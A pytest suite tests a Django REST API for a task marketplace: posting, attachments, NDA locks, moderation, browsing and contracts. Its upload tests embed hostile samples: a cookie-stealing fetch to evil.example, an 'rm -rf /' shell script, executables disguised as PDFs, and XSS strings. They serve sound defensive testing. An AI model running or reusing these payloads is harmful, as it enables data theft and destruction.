"""The tasks REST API: posting, attachments, NDA, moderation, browsing and contracts.

Everything goes through HTTP (DRF's APIClient) against PostgreSQL; bad input must come back as
a 4xx with the one error body and write nothing.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from accounts.models import Notification, Organization, User
from contracts.models import Contract, Delivery, DeliveryFile, Milestone, Review
from contracts.services import contract_funding_received
from marketplace.models import AuditEvent
from tasks.models import (
    NdaAcceptance,
    Task,
    TaskAttachment,
    TaskInvitation,
    TaskMilestonePlan,
    TaskSkill,
)
from tests.accounts.factories import (
    OrganizationFactory,
    ProviderProfileFactory,
    SkillFactory,
    UserFactory,
    grant,
    make_org_member,
)
from tests.api_helpers import API, PDF_BYTES, assert_error, client_for, pdf
from tests.bids.factories import BidFactory, bid_operator
from tests.tasks.factories import TaskFactory, task_owner

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("celery_eager")]


def task_payload(organization: Organization, **overrides: Any) -> dict[str, Any]:
    """A valid POST /tasks/ body; amounts in fen."""
    body: dict[str, Any] = {
        "organization": organization.pk,
        "kind": "product_design",
        "title": "智能门锁外观设计",
        "summary": "为出口欧洲的智能门锁做外观与 CMF 设计。",
        "description": "## 需求\n三套概念方案，一套深化方案与手板，含结构可行性评估。",
        "budget_min": 30_000_00,
        "budget_max": 50_000_00,
        "bid_deadline": (timezone.now() + dt.timedelta(days=7)).isoformat(),
        "delivery_deadline": (timezone.localdate() + dt.timedelta(days=60)).isoformat(),
        "region": "500103",
        "skills": [
            {"skill": SkillFactory(slug="industrial-design").pk, "weight": 5},
            {"skill": SkillFactory(slug="3d-modelling").pk, "weight": 3},
        ],
        "milestones": [
            {"title": "概念设计", "share_bps": 4000, "due_days": 20},
            {"title": "深化设计与手板", "share_bps": 6000, "due_days": 50, "description": "手板"},
        ],
    }
    body.update(overrides)
    return body


def row_counts() -> dict[str, int]:
    models = (
        Task,
        TaskSkill,
        TaskMilestonePlan,
        TaskAttachment,
        TaskInvitation,
        NdaAcceptance,
        Contract,
        Milestone,
        Delivery,
        DeliveryFile,
        Review,
        AuditEvent,
    )
    return {model.__name__: model.objects.count() for model in models}


@pytest.fixture
def poster() -> User:
    return UserFactory()


@pytest.fixture
def org(poster: User) -> Organization:
    return OrganizationFactory(owner=poster, verified=True)


# --- posting ----------------------------------------------------------------------------------


def test_a_poster_member_creates_a_draft_with_skills_milestones_and_amounts_in_fen(org):
    member = UserFactory()
    make_org_member(member, org)

    response = client_for(member).post(f"{API}/tasks/", task_payload(org), format="json")

    assert response.status_code == 201, response.content
    body = response.json()
    task = Task.objects.get(pk=body["id"])
    assert task.status == Task.Status.DRAFT
    assert task.created_by == member
    assert (task.budget_min, task.budget_max) == (30_000_00, 50_000_00)
    assert (body["budget_min"], body["currency"]) == (30_000_00, "CNY")
    assert body["status"] == "draft"
    assert body["is_poster_member"] is True
    assert body["details_locked"] is None
    assert body["description"].startswith("## 需求")
    assert [(s["slug"], s["weight"]) for s in body["skills"]] == [
        ("industrial-design", 5),
        ("3d-modelling", 3),
    ]
    assert [(m["title"], m["share_bps"], m["due_days"]) for m in body["milestone_plan"]] == [
        ("概念设计", 4000, 20),
        ("深化设计与手板", 6000, 50),
    ]


def test_a_draft_is_attached_submitted_and_then_public(org, poster):
    client = client_for(poster)
    task_id = client.post(f"{API}/tasks/", task_payload(org), format="json").json()["id"]
    anonymous = client_for(None)
    assert anonymous.get(f"{API}/tasks/{task_id}/").status_code == 404

    upload = client.post(
        f"{API}/tasks/{task_id}/attachments/",
        {"file": pdf("需求说明.pdf"), "confidential": "false"},
        format="multipart",
    )
    assert upload.status_code == 201, upload.content
    assert upload.json()["name"] == "需求说明.pdf"
    assert upload.json()["confidential"] is False
    assert upload.json()["content_type"] == "application/pdf"

    submitted = client.post(f"{API}/tasks/{task_id}/submit/")
    assert submitted.status_code == 200, submitted.content
    assert submitted.json()["status"] == "open"

    public = anonymous.get(f"{API}/tasks/{task_id}/")
    assert public.status_code == 200
    assert [a["name"] for a in public.json()["attachments"]] == ["需求说明.pdf"]
    assert public.json()["moderation_note"] is None
    assert public.json()["is_poster_member"] is False
    listed = anonymous.get(f"{API}/tasks/").json()
    assert [t["id"] for t in listed["results"]] == [task_id]
    assert listed["results"][0]["bid_count"] == 0


def test_a_draft_is_edited_field_by_field_and_skills_are_replaced(org, poster):
    client = client_for(poster)
    task_id = client.post(f"{API}/tasks/", task_payload(org), format="json").json()["id"]
    robotics = SkillFactory(slug="robotics")

    response = client.patch(
        f"{API}/tasks/{task_id}/",
        {
            "title": "智能门锁外观与结构设计",
            "budget_max": 60_000_00,
            "skills": [{"skill": robotics.pk}],
        },
        format="json",
    )

    assert response.status_code == 200, response.content
    task = Task.objects.get(pk=task_id)
    assert task.title == "智能门锁外观与结构设计"
    assert (task.budget_min, task.budget_max) == (30_000_00, 60_000_00)
    assert list(task.skill_weights.values_list("skill__slug", "weight")) == [("robotics", 3)]
    assert task.milestone_plan.count() == 2


def test_a_published_task_cannot_be_edited(org, poster):
    task = TaskFactory(organization=org)
    before = row_counts()

    response = client_for(poster).patch(f"{API}/tasks/{task.pk}/", {"title": "x"}, format="json")

    assert_error(response, 409, code="invalid_state")
    assert Task.objects.get(pk=task.pk).title == task.title
    assert row_counts() == before


def _bad_create_cases() -> list[Any]:
    past = (timezone.now() - dt.timedelta(days=1)).isoformat()
    soon = timezone.now() + dt.timedelta(days=7)
    return [
        pytest.param({"budget_min": -100_00}, "budget_min", id="negative-budget"),
        pytest.param(
            {"budget_max": 100_000_000_01, "budget_min": 30_000_00}, "budget_max", id="absurd"
        ),
        pytest.param(
            {"budget_min": 60_000_00, "budget_max": 50_000_00}, "budget_max", id="max<min"
        ),
        pytest.param({"bid_deadline": past}, "bid_deadline", id="bid-deadline-in-the-past"),
        pytest.param(
            {
                "bid_deadline": soon.isoformat(),
                "delivery_deadline": (timezone.localdate(soon) - dt.timedelta(days=1)).isoformat(),
            },
            "delivery_deadline",
            id="delivery-before-bids-close",
        ),
        pytest.param(
            {"milestones": [{"title": "全部", "share_bps": 9000, "due_days": 30}]},
            "milestones",
            id="shares-not-100-percent",
        ),
        pytest.param(
            {"skills": [{"skill": 987_654_321, "weight": 3}]}, "skills", id="unknown-skill"
        ),
        pytest.param({"budget_min": 100.5}, "budget_min", id="float-amount"),
        pytest.param({"budget_min": 30_000_00.0}, "budget_min", id="float-with-zero-fraction"),
        pytest.param({"budget_max": "50000.00"}, "budget_max", id="decimal-string"),
        pytest.param({"budget_max": True}, "budget_max", id="boolean-amount"),
        pytest.param(
            {"milestones": [{"title": "全部", "share_bps": 10000.0, "due_days": 30}]},
            "milestones.0.share_bps",
            id="float-share",
        ),
        pytest.param({"kind": "lottery"}, "kind", id="unknown-kind"),
        pytest.param({"title": ""}, "title", id="empty-title"),
        pytest.param({"description": "短"}, "description", id="description-too-short"),
    ]


@pytest.mark.parametrize(("overrides", "field"), _bad_create_cases())
def test_bad_task_input_is_refused_with_field_errors_and_nothing_is_written(
    org, poster, overrides, field
):
    before = row_counts()

    response = client_for(poster).post(
        f"{API}/tasks/", task_payload(org, **overrides), format="json"
    )

    error = assert_error(response, 400, code="invalid")
    assert field in error["fields"], error
    assert row_counts() == before


def test_the_same_skill_twice_is_refused(org, poster):
    skill = SkillFactory(slug="industrial-design")
    body = task_payload(org, skills=[{"skill": skill.pk, "weight": 5}, {"skill": skill.pk}])
    before = row_counts()

    response = client_for(poster).post(f"{API}/tasks/", body, format="json")

    assert "skills" in assert_error(response, 400)["fields"]
    assert row_counts() == before


def test_posting_for_an_organization_you_do_not_belong_to_is_refused(org):
    outsider = UserFactory()
    OrganizationFactory(owner=outsider)
    before = row_counts()

    response = client_for(outsider).post(f"{API}/tasks/", task_payload(org), format="json")

    assert_error(response, 403, code="not_allowed")
    assert row_counts() == before


def test_posting_for_an_unknown_organization_is_not_found(org, poster):
    body = {**task_payload(org), "organization": 987_654_321}
    response = client_for(poster).post(f"{API}/tasks/", body, format="json")
    assert_error(response, 404)
    assert not Task.objects.exists()


def test_script_in_title_and_description_is_stored_as_text_and_returned_literally(org, poster):
    title = '<script>alert("x")</script>门锁'
    description = '<img src=x onerror="alert(1)"> 需求：三套概念方案与手板，含结构评估。'
    response = client_for(poster).post(
        f"{API}/tasks/", task_payload(org, title=title, description=description), format="json"
    )
    assert response.status_code == 201, response.content
    task = Task.objects.get(pk=response.json()["id"])
    assert (task.title, task.description) == (title, description)

    shown = client_for(poster).get(f"{API}/tasks/{task.pk}/")

    assert shown["Content-Type"] == "application/json"
    assert shown["X-Content-Type-Options"] == "nosniff"
    assert shown.json()["title"] == title
    assert shown.json()["description"] == description
    # JSON carries the literal characters; rendering them safely is the HTML layer's job.
    assert json.loads(shown.content)["title"] == title


# --- attachments --------------------------------------------------------------------------------


@pytest.fixture
def draft(org: Organization) -> Task:
    return TaskFactory(organization=org, status=Task.Status.DRAFT, published_at=None)


def _bad_uploads() -> list[Any]:
    return [
        pytest.param(
            SimpleUploadedFile("report.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200), id="exe-as-pdf"
        ),
        pytest.param(
            SimpleUploadedFile("setup.js", b"fetch('https://evil.example/'+document.cookie)"),
            id="script-as-js",
        ),
        pytest.param(SimpleUploadedFile("notes.txt", b""), id="empty-file"),
        pytest.param(SimpleUploadedFile("run.sh", b"#!/bin/sh\nrm -rf /\n"), id="shell-script"),
    ]


@pytest.mark.parametrize("upload", _bad_uploads())
def test_dangerous_or_disguised_uploads_are_refused_and_nothing_is_stored(
    draft, poster, upload, settings
):
    before = row_counts()

    response = client_for(poster).post(
        f"{API}/tasks/{draft.pk}/attachments/", {"file": upload}, format="multipart"
    )

    assert_error(response, 400)
    assert row_counts() == before


def test_an_oversized_attachment_is_refused(draft, poster, settings):
    settings.MARKETPLACE = {**settings.MARKETPLACE, "ATTACHMENT_MAX_BYTES": 1024}
    before = row_counts()

    response = client_for(poster).post(
        f"{API}/tasks/{draft.pk}/attachments/",
        {"file": pdf(content=PDF_BYTES + b"0" * 2048)},
        format="multipart",
    )

    error = assert_error(response, 400)
    assert "spec.pdf" in error["message"]
    assert row_counts() == before


def test_an_upload_without_a_file_is_a_field_error(draft, poster):
    response = client_for(poster).post(
        f"{API}/tasks/{draft.pk}/attachments/", {"confidential": "true"}, format="multipart"
    )
    assert "file" in assert_error(response, 400)["fields"]
    assert not TaskAttachment.objects.exists()


def test_an_attachment_is_confidential_unless_said_otherwise(draft, poster):
    response = client_for(poster).post(
        f"{API}/tasks/{draft.pk}/attachments/", {"file": pdf()}, format="multipart"
    )
    assert response.status_code == 201, response.content
    assert response.json()["confidential"] is True
    assert TaskAttachment.objects.get().confidential is True


def test_a_download_is_an_attachment_with_its_name_detected_type_and_nosniff(draft, poster):
    attachment_id = (
        client_for(poster)
        .post(
            f"{API}/tasks/{draft.pk}/attachments/", {"file": pdf("方案 v2.pdf")}, format="multipart"
        )
        .json()["id"]
    )

    response = client_for(poster).get(
        f"{API}/attachments/{attachment_id}/download/", HTTP_ACCEPT="application/pdf"
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=utf-8''%E6%96%B9%E6%A1%88%20v2.pdf" in disposition
    assert b"".join(response.streaming_content) == PDF_BYTES


def test_attachments_of_a_draft_are_removed_and_of_an_open_task_kept(draft, poster):
    client = client_for(poster)
    attachment_id = client.post(
        f"{API}/tasks/{draft.pk}/attachments/", {"file": pdf()}, format="multipart"
    ).json()["id"]
    client.post(f"{API}/tasks/{draft.pk}/submit/")
    before = row_counts()

    kept = client.delete(f"{API}/attachments/{attachment_id}/")

    assert_error(kept, 409, code="invalid_state")
    assert row_counts() == before
    other = TaskFactory(organization=draft.organization, status=Task.Status.DRAFT)
    other_id = client.post(
        f"{API}/tasks/{other.pk}/attachments/", {"file": pdf()}, format="multipart"
    ).json()["id"]
    assert client.delete(f"{API}/attachments/{other_id}/").status_code == 204
    assert not TaskAttachment.objects.filter(pk=other_id).exists()


# --- NDA and invitations --------------------------------------------------------------------------


def test_the_nda_unlocks_the_description_and_confidential_files(org, poster):
    task = TaskFactory(organization=org, nda_required=True)
    client_for(poster).post(
        f"{API}/tasks/{task.pk}/attachments/",
        {"file": pdf("public.pdf"), "confidential": "false"},
        format="multipart",
    )
    secret = client_for(poster).post(
        f"{API}/tasks/{task.pk}/attachments/", {"file": pdf("secret.pdf")}, format="multipart"
    )
    provider = ProviderProfileFactory().user
    client = client_for(provider)

    locked = client.get(f"{API}/tasks/{task.pk}/").json()
    assert locked["description"] is None
    assert locked["details_locked"] == "nda"
    assert locked["nda_text"]
    assert [a["name"] for a in locked["attachments"]] == ["public.pdf"]
    hidden = client.get(f"{API}/attachments/{secret.json()['id']}/download/")
    assert_error(hidden, 404)
    assert client.get(f"{API}/tasks/{task.pk}/eligibility/").json()["code"] == "nda"

    accepted = client.post(f"{API}/tasks/{task.pk}/nda/")
    assert accepted.status_code == 200
    assert len(accepted.json()["terms_sha256"]) == 64
    assert client.post(f"{API}/tasks/{task.pk}/nda/").status_code == 200  # idempotent
    assert NdaAcceptance.objects.filter(task=task, user=provider).count() == 1

    unlocked = client.get(f"{API}/tasks/{task.pk}/").json()
    assert unlocked["details_locked"] is None
    assert unlocked["nda_accepted"] is True
    assert unlocked["description"] == task.description
    assert sorted(a["name"] for a in unlocked["attachments"]) == ["public.pdf", "secret.pdf"]
    assert client.get(f"{API}/attachments/{secret.json()['id']}/download/").status_code == 200


def test_accepting_an_nda_a_task_does_not_have_is_refused(org):
    task = TaskFactory(organization=org)
    response = client_for(UserFactory()).post(f"{API}/tasks/{task.pk}/nda/")
    assert_error(response, 400)
    assert not NdaAcceptance.objects.exists()


def test_an_invitation_only_task_is_locked_until_the_provider_is_invited(org, poster):
    task = TaskFactory(organization=org, visibility=Task.Visibility.INVITED)
    profile = ProviderProfileFactory()
    client = client_for(profile.user)

    before = client.get(f"{API}/tasks/{task.pk}/").json()
    assert (before["description"], before["details_locked"]) == (None, "invitation")
    assert client.get(f"{API}/tasks/").json()["count"] == 0  # unlisted

    invited = client_for(poster).post(
        f"{API}/tasks/{task.pk}/invitations/", {"provider": profile.pk}, format="json"
    )
    assert invited.status_code == 201, invited.content
    assert invited.json()["provider"]["id"] == profile.pk
    again = client_for(poster).post(
        f"{API}/tasks/{task.pk}/invitations/", {"provider": profile.pk}, format="json"
    )
    assert_error(again, 409, code="conflict")

    after = client.get(f"{API}/tasks/{task.pk}/").json()
    assert after["details_locked"] is None
    assert after["description"] == task.description
    assert [t["id"] for t in client.get(f"{API}/tasks/").json()["results"]] == [task.pk]


def test_inviting_an_unknown_provider_is_not_found(org, poster):
    task = TaskFactory(organization=org)
    response = client_for(poster).post(
        f"{API}/tasks/{task.pk}/invitations/", {"provider": 987_654_321}, format="json"
    )
    assert_error(response, 404)
    assert not TaskInvitation.objects.exists()


def test_cancelling_needs_a_reason_and_declines_live_bids(org, poster):
    task = TaskFactory(organization=org)
    bid = BidFactory(task=task)
    client = client_for(poster)

    assert (
        "reason" in assert_error(client.post(f"{API}/tasks/{task.pk}/cancel/", {}), 400)["fields"]
    )
    response = client.post(f"{API}/tasks/{task.pk}/cancel/", {"reason": "项目取消"}, format="json")

    assert response.status_code == 200
    assert response.json()["status"] == "cancelled"
    bid.refresh_from_db()
    assert bid.status == "rejected"
    assert bid.decision_note == "项目取消"


# --- moderation ---------------------------------------------------------------------------------


@pytest.fixture
def moderator() -> User:
    return grant(UserFactory(staff=True), "tasks.moderate_task")


def test_a_government_task_waits_for_review_and_the_moderator_approves_it(moderator):
    clerk = UserFactory()
    bureau = OrganizationFactory(owner=clerk, kind=Organization.Kind.GOVERNMENT, verified=True)
    client = client_for(clerk)
    task_id = client.post(f"{API}/tasks/", task_payload(bureau), format="json").json()["id"]

    assert client.post(f"{API}/tasks/{task_id}/submit/").json()["status"] == "pending_review"
    assert client_for(UserFactory()).get(f"{API}/tasks/{task_id}/").status_code == 404
    queue = client_for(moderator).get(f"{API}/moderation/tasks/").json()
    assert [t["id"] for t in queue["results"]] == [task_id]

    approved = client_for(moderator).post(f"{API}/moderation/tasks/{task_id}/approve/")

    assert approved.status_code == 200, approved.content
    assert approved.json()["status"] == "open"
    assert client_for(UserFactory()).get(f"{API}/tasks/{task_id}/").status_code == 200


def test_the_moderator_sends_a_task_back_with_a_reason_only_the_poster_sees(moderator):
    clerk = UserFactory()
    bureau = OrganizationFactory(owner=clerk, kind=Organization.Kind.GOVERNMENT)
    task = TaskFactory(organization=bureau, status=Task.Status.PENDING_REVIEW, published_at=None)
    mod = client_for(moderator)

    assert (
        "reason"
        in assert_error(
            mod.post(f"{API}/moderation/tasks/{task.pk}/send-back/", {}, format="json"), 400
        )["fields"]
    )
    response = mod.post(
        f"{API}/moderation/tasks/{task.pk}/send-back/", {"reason": "预算说明不清"}, format="json"
    )

    assert response.status_code == 200
    shown = client_for(clerk).get(f"{API}/tasks/{task.pk}/").json()
    assert (shown["status"], shown["moderation_note"]) == ("draft", "预算说明不清")


def test_a_flagged_open_task_leaves_the_listing_until_approved_again(moderator, org):
    task = TaskFactory(organization=org)
    anonymous = client_for(None)
    assert anonymous.get(f"{API}/tasks/").json()["count"] == 1

    flagged = client_for(moderator).post(
        f"{API}/moderation/tasks/{task.pk}/flag/", {"reason": "疑似虚假需求"}, format="json"
    )

    assert flagged.status_code == 200
    assert flagged.json()["status"] == "pending_review"
    assert anonymous.get(f"{API}/tasks/").json()["count"] == 0
    assert anonymous.get(f"{API}/tasks/{task.pk}/").status_code == 404


def test_staff_without_the_moderation_permission_cannot_moderate(org):
    task = TaskFactory(organization=org, status=Task.Status.PENDING_REVIEW)
    staff = UserFactory(staff=True)
    response = client_for(staff).post(f"{API}/moderation/tasks/{task.pk}/approve/")
    assert_error(response, 403)
    assert Task.objects.get(pk=task.pk).status == Task.Status.PENDING_REVIEW


def test_a_suspended_moderator_reads_the_queue_but_cannot_decide(moderator, org):
    task = TaskFactory(organization=org, status=Task.Status.PENDING_REVIEW)
    moderator.suspended_at = timezone.now()
    moderator.save(update_fields=["suspended_at"])
    client = client_for(moderator)

    queue = client.get(f"{API}/moderation/tasks/")
    assert [t["id"] for t in queue.json()["results"]] == [task.pk]
    for action in ("approve", "send-back", "flag"):
        response = client.post(
            f"{API}/moderation/tasks/{task.pk}/{action}/", {"reason": "已停用"}, format="json"
        )
        assert_error(response, 403, code="suspended")
    assert Task.objects.get(pk=task.pk).status == Task.Status.PENDING_REVIEW


# --- browsing -----------------------------------------------------------------------------------


def test_browse_filters_by_words_kind_skill_region_and_budget(org):
    vision = TaskFactory(
        organization=org,
        title="机器视觉检测",
        region="500112",
        budget_min=50_000_00,
        budget_max=80_000_00,
    )
    design = TaskFactory(
        organization=org,
        title="门锁外观设计",
        summary="智能门锁的外观与 CMF 设计。",
        kind=Task.Kind.PRODUCT_DESIGN,
        skills={"industrial-design": 5},
        region="510104",
        budget_min=5_000_00,
        budget_max=9_000_00,
    )
    TaskFactory(organization=org, status=Task.Status.DRAFT, title="机器视觉草稿")
    client = client_for(None)

    def ids(**params: Any) -> list[int]:
        response = client.get(f"{API}/tasks/", params)
        assert response.status_code == 200, response.content
        return [t["id"] for t in response.json()["results"]]

    assert sorted(ids()) == sorted([vision.pk, design.pk])
    assert ids(q="视觉") == [vision.pk]
    assert ids(kind="product_design") == [design.pk]
    assert ids(skill="industrial-design") == [design.pk]
    assert ids(skill="machine-vision") == [vision.pk]
    assert ids(region="500112") == [vision.pk]
    assert ids(region="510000") == [design.pk]
    assert ids(budget_from=10_000_00) == [vision.pk]
    assert ids(budget_to=10_000_00) == [design.pk]
    assert ids(sort="budget") == [vision.pk, design.pk]
    assert_error(client.get(f"{API}/tasks/", {"budget_from": "10.5"}), 400)
    assert_error(client.get(f"{API}/tasks/", {"sort": "random"}), 400)


def test_browsing_chongqing_as_a_whole_does_not_list_sichuan_tasks(org):
    """Region 500000 (all of Chongqing) must match 50xxxx only, not 51xxxx (Sichuan)."""
    chongqing = TaskFactory(organization=org, region="500112")
    TaskFactory(organization=org, region="510104")

    response = client_for(None).get(f"{API}/tasks/", {"region": "500000"})

    assert [t["id"] for t in response.json()["results"]] == [chongqing.pk]


def test_browse_shows_live_bid_counts_but_never_amounts(org):
    task = TaskFactory(organization=org)
    BidFactory(task=task, amount=7_654_321)
    BidFactory(task=task, amount=6_543_210)
    BidFactory(task=task, amount=5_432_109, status="withdrawn")

    response = client_for(UserFactory()).get(f"{API}/tasks/")

    assert response.json()["results"][0]["bid_count"] == 2
    for amount in (b"7654321", b"6543210", b"5432109"):
        assert amount not in response.content


def test_my_tasks_include_drafts_of_my_organizations_only(org, poster):
    draft = TaskFactory(organization=org, status=Task.Status.DRAFT)
    open_task = TaskFactory(organization=org)
    TaskFactory()  # another organization's

    response = client_for(poster).get(f"{API}/tasks/mine/")

    assert sorted(t["id"] for t in response.json()["results"]) == sorted([draft.pk, open_task.pk])
    assert_error(client_for(None).get(f"{API}/tasks/mine/"), 401, code="not_authenticated")


# --- contracts, deliveries, reviews ---------------------------------------------------------------


@pytest.fixture
def funded_contract(org: Organization) -> Contract:
    """A funded contract between `org` and an individual provider, made through the award."""
    from contracts.services import contract_award

    task = TaskFactory(organization=org)
    bid = BidFactory(
        task=task, amount=60_000_00, milestones=[("设计", 20_000_00, 20), ("交付", 40_000_00, 60)]
    )
    contract = contract_award(actor=task_owner(task), bid=bid)
    return contract_funding_received(contract=contract, reference="test")


def test_a_delivery_records_each_files_sha256_and_time_received(funded_contract):
    provider = bid_operator_of(funded_contract)
    milestone = funded_contract.milestones.order_by("position").first()

    response = client_for(provider).post(
        f"{API}/milestones/{milestone.pk}/deliveries/",
        {"note": "概念设计三套，见附件。", "files": [pdf("concept-a.pdf"), pdf("concept-b.pdf")]},
        format="multipart",
    )

    assert response.status_code == 201, response.content
    body = response.json()
    assert body["round"] == 1
    assert [f["name"] for f in body["files"]] == ["concept-a.pdf", "concept-b.pdf"]
    assert {f["sha256"] for f in body["files"]} == {hashlib.sha256(PDF_BYTES).hexdigest()}
    assert all(f["received_at"] for f in body["files"])
    detail = client_for(task_owner(funded_contract.task)).get(
        f"{API}/contracts/{funded_contract.pk}/"
    )
    first = detail.json()["milestones"][0]
    assert first["status"] == "submitted"
    assert first["due_date"] is not None
    assert len(first["deliveries"][0]["files"]) == 2
    assert detail.json()["my_side"] == "poster"


def bid_operator_of(contract: Contract) -> User:
    """The user who acts for the contract's provider (the awarded bid's operator)."""

    return bid_operator(contract.bid)


def test_a_delivery_with_an_executable_writes_nothing(funded_contract):
    milestone = funded_contract.milestones.order_by("position").first()
    before = row_counts()

    response = client_for(bid_operator_of(funded_contract)).post(
        f"{API}/milestones/{milestone.pk}/deliveries/",
        {
            "note": "交付物见附件。",
            "files": [pdf(), SimpleUploadedFile("tool.pdf", b"MZ" + b"\0" * 99)],
        },
        format="multipart",
    )

    assert_error(response, 400)
    assert row_counts() == before
    assert Milestone.objects.get(pk=milestone.pk).status == Milestone.Status.FUNDED


def test_a_delivery_before_funding_is_refused(org):
    from contracts.services import contract_award

    task = TaskFactory(organization=org)
    contract = contract_award(actor=task_owner(task), bid=BidFactory(task=task))
    milestone = contract.milestones.first()

    response = client_for(bid_operator_of(contract)).post(
        f"{API}/milestones/{milestone.pk}/deliveries/", {"note": "提前交付。"}, format="multipart"
    )

    assert_error(response, 409, code="invalid_state")
    assert not Delivery.objects.exists()


def test_asking_for_changes_needs_feedback(funded_contract):
    milestone = funded_contract.milestones.order_by("position").first()
    client_for(bid_operator_of(funded_contract)).post(
        f"{API}/milestones/{milestone.pk}/deliveries/",
        {"note": "交付。见附件。"},
        format="multipart",
    )
    owner = client_for(task_owner(funded_contract.task))

    response = owner.post(f"{API}/milestones/{milestone.pk}/request-changes/", {}, format="json")

    assert "feedback" in assert_error(response, 400)["fields"]
    assert Milestone.objects.get(pk=milestone.pk).status == Milestone.Status.SUBMITTED


def test_reviews_are_double_blind_until_both_sides_wrote_theirs(funded_contract):
    poster_owner = task_owner(funded_contract.task)
    provider = bid_operator_of(funded_contract)
    for milestone in funded_contract.milestones.order_by("position"):
        client_for(provider).post(
            f"{API}/milestones/{milestone.pk}/deliveries/",
            {"note": "交付。见附件。"},
            format="multipart",
        )
        assert (
            client_for(poster_owner).post(f"{API}/milestones/{milestone.pk}/accept/").status_code
            == 200
        )
    url = f"{API}/contracts/{funded_contract.pk}/reviews/"
    scores = {"rating": 5, "quality": 5, "communication": 4, "timeliness": 5}

    mine = client_for(provider).post(url, {**scores, "comment": "合作顺畅"}, format="json")

    assert mine.status_code == 201, mine.content
    assert mine.json()["side"] == "provider"
    assert [r["side"] for r in client_for(provider).get(url).json()["results"]] == ["provider"]
    assert client_for(poster_owner).get(url).json()["results"] == []

    theirs = client_for(poster_owner).post(url, {**scores, "rating": 4}, format="json")

    assert theirs.status_code == 201
    assert sorted(r["side"] for r in client_for(poster_owner).get(url).json()["results"]) == [
        "poster",
        "provider",
    ]
    assert_error(client_for(provider).post(url, scores, format="json"), 409, code="conflict")


@pytest.mark.parametrize(
    "scores",
    [
        pytest.param({"rating": 6, "quality": 5, "communication": 5, "timeliness": 5}, id="six"),
        pytest.param({"rating": 4.5, "quality": 5, "communication": 5, "timeliness": 5}, id="half"),
        pytest.param({"rating": 5, "quality": 5, "communication": 5}, id="missing"),
    ],
)
def test_bad_review_scores_are_refused(funded_contract, scores):
    response = client_for(task_owner(funded_contract.task)).post(
        f"{API}/contracts/{funded_contract.pk}/reviews/", scores, format="json"
    )
    assert_error(response, 400)
    assert not Review.objects.exists()


def test_reviews_before_completion_are_refused(funded_contract):
    response = client_for(task_owner(funded_contract.task)).post(
        f"{API}/contracts/{funded_contract.pk}/reviews/",
        {"rating": 5, "quality": 5, "communication": 5, "timeliness": 5},
        format="json",
    )
    assert_error(response, 409)
    assert not Review.objects.exists()


# --- no N+1 on list endpoints ---------------------------------------------------------------------


@pytest.mark.parametrize("rows", [2, 10])
def test_browse_takes_the_same_queries_for_2_or_10_tasks(rows, django_assert_num_queries):
    for _ in range(rows):
        task = TaskFactory()
        BidFactory(task=task)
    client = client_for(UserFactory())

    # count, page (the user's provider profiles a subquery of both), skills prefetch, bid counts
    with django_assert_num_queries(4):
        response = client.get(f"{API}/tasks/")

    assert len(response.json()["results"]) == rows
    assert all(t["bid_count"] == 1 and len(t["skills"]) == 2 for t in response.json()["results"])


@pytest.mark.parametrize("rows", [2, 10])
def test_my_tasks_take_the_same_queries_for_2_or_10_tasks(
    rows, org, poster, django_assert_num_queries
):
    for _ in range(rows):
        BidFactory(task=TaskFactory(organization=org))
    client = client_for(poster)

    # my organizations, count, page, bid counts
    with django_assert_num_queries(4):
        response = client.get(f"{API}/tasks/mine/")

    assert len(response.json()["results"]) == rows


@pytest.mark.parametrize("rows", [2, 10])
def test_contracts_take_the_same_queries_for_2_or_10_contracts(
    rows, org, poster, django_assert_num_queries
):
    from contracts.services import contract_award

    for index in range(rows):
        task = TaskFactory(organization=org)
        # Half of the providers are micro-firms: their names come from their organization.
        provider = ProviderProfileFactory(firm=index % 2 == 0)
        contract_award(actor=poster, bid=BidFactory(task=task, provider=provider))
    # A fresh user object, as a request has: the awards above left answers on `poster`
    # (accounts.access), which would make the count depend on how long they took.
    client = client_for(type(poster).objects.get(pk=poster.pk))

    # my memberships and provider profiles (each read once per request, for the filter and
    # the sides alike), count, page
    with django_assert_num_queries(4):
        response = client.get(f"{API}/contracts/")

    results = response.json()["results"]
    assert len(results) == rows
    assert {c["my_side"] for c in results} == {"poster"}
    assert all(c["provider"]["display_name"] for c in results)


def test_a_notification_tells_the_provider_when_changes_are_asked(
    funded_contract, django_capture_on_commit_callbacks
):
    provider = bid_operator_of(funded_contract)
    milestone = funded_contract.milestones.order_by("position").first()
    client_for(provider).post(
        f"{API}/milestones/{milestone.pk}/deliveries/",
        {"note": "交付。见附件。"},
        format="multipart",
    )

    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(task_owner(funded_contract.task)).post(
            f"{API}/milestones/{milestone.pk}/request-changes/",
            {"feedback": "请补充测试报告。"},
            format="json",
        )

    assert response.status_code == 200
    body = response.json()
    assert (body["status"], body["change_rounds"]) == ("changes_requested", 1)
    assert body["deliveries"][0]["decision"] == "changes_requested"
    assert Notification.objects.filter(recipient=provider).exists()
